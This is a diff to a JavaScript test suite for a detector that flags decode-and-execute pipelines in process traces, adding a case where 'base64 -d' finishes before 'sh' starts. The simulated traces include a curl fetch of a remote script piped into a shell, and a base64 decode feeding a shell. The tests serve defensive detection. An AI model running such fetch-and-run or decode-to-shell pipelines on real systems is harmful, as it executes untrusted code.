@@ -27,6 +27,10 @@ describe('decode-and-execute pipelines', () => {
     decoderGone.fork(1, 2).fork(1, 3).exec(2, 1, '/usr/bin/curl', ['curl', '-s', 'http://x/i.sh']).exit(2);
     decoderGone.exec(3, 1, '/usr/bin/sh', ['sh', '-s', '--', '--yes']);
     expect(ids(decoderGone)).toContain('exec-decode-to-shell');
+    // The decoder finished before the shell was even forked: still its neighbour in the pipeline.
+    const early = new Trace();
+    early.exec(2, 1, '/usr/bin/base64', ['base64', '-d']).exit(2).exec(3, 1, '/usr/bin/sh', ['sh']);
+    expect(ids(early)).toContain('exec-decode-to-shell');
   });
 
   it('does not join children of different parents, or a shell that runs a script file', () => {
